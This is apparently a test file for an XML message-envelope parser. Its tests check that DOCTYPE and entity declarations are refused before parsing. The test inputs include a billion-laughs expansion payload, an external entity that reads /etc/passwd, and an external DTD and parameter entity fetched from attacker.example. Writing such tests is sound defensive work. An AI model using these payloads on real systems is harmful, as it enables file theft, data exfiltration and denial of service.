// DOCTYPE and entity declarations are refused at once, before any parser runs and without expanding anything.
import t from 'tap'
import { parseEnvelope } from './imports.js'
import { codeOf, edocText } from './helpers.js'

const body = edocText().replace(/^<\?xml[^>]*>\n/, '')
const decl = '<?xml version="1.0" encoding="UTF-8"?>\n'

t.test('billion laughs is refused in microseconds, not expanded', async (t) => {
  const lol = ['<!ENTITY lol "lol">']
  for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`)
  const pkg = `${decl}<!DOCTYPE edXML [\n${lol.join('\n')}\n]>\n` + body.replace('<edXML:Subject>', '<edXML:Subject>&lol9;')
  const t0 = performance.now()
  t.equal(codeOf(() => parseEnvelope(Buffer.from(pkg))), 'GW_ERR_ENVELOPE_DOCTYPE')
  t.ok(performance.now() - t0 < 1000, 'fails fast (bound generous for a shared machine; expansion would take minutes)')
})

t.test('external entity (XXE) is refused', async (t) => {
  const pkg = `${decl}<!DOCTYPE edXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n` + body.replace('<edXML:Subject>', '<edXML:Subject>&xxe;')
  t.equal(codeOf(() => parseEnvelope(Buffer.from(pkg))), 'GW_ERR_ENVELOPE_DOCTYPE')
})

t.test('parameter entities and an external DTD are refused', async (t) => {
  t.equal(codeOf(() => parseEnvelope(Buffer.from(`${decl}<!DOCTYPE edXML SYSTEM "http://attacker.example/x.dtd">\n${body}`))), 'GW_ERR_ENVELOPE_DOCTYPE')
  t.equal(
    codeOf(() => parseEnvelope(Buffer.from(`${decl}<!DOCTYPE edXML [ <!ENTITY % p SYSTEM "http://attacker.example/p"> %p; ]>\n${body}`))),
    'GW_ERR_ENVELOPE_DOCTYPE',
  )
})

t.test('an empty DOCTYPE, a lowercase one and a stray ENTITY inside the tree are refused too', async (t) => {
  t.equal(codeOf(() => parseEnvelope(Buffer.from(`${decl}<!DOCTYPE edXML>\n${body}`))), 'GW_ERR_ENVELOPE_DOCTYPE')
  t.equal(codeOf(() => parseEnvelope(Buffer.from(`${decl}<!doctype edXML>\n${body}`))), 'GW_ERR_ENVELOPE_DOCTYPE')
  t.equal(codeOf(() => parseEnvelope(Buffer.from(decl + body.replace('<edXML:Subject>', '<!ENTITY x "y"><edXML:Subject>')))), 'GW_ERR_ENVELOPE_DOCTYPE')
})

t.test('a DOCTYPE hidden in a comment or CDATA is only text and does no harm', async (t) => {
  const pkg = decl + body.replace('<edXML:Subject>', '<!-- <!DOCTYPE x> --><edXML:Subject><![CDATA[<!DOCTYPE x> & co]]>')
  const env = parseEnvelope(Buffer.from(pkg))
  t.match(env.edoc!.messageHeader.subject, /^<!DOCTYPE x> & coV\/v/)
})
